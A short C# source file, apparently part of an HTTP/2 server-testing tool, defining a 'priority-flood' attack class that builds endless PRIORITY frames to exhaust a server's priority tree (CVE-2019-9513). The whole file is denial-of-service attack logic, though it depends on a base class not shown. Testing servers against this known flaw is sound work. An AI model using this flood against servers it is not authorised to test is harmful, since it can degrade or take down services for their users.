namespace Metering.Attacks;

/// <summary>
/// Moves streams about in the tree of priorities without end, which a server that keeps one pays for. CVE-2019-9513;
/// the tree is deprecated by RFC 9113, section 5.3.
/// </summary>
internal sealed class PriorityFlood : FrameFlood
{
    private const byte PriorityType = 2;

    public override string Name => "priority-flood";

    public override string Does => "PRIORITY frames that move streams about (CVE-2019-9513)";

    protected override void Add(FrameBatch frames, int turn) =>
        frames.Add(PriorityType, 0, 1 + (2 * (turn % 100)), [0, 0, 0, 0, (byte)turn]);
}
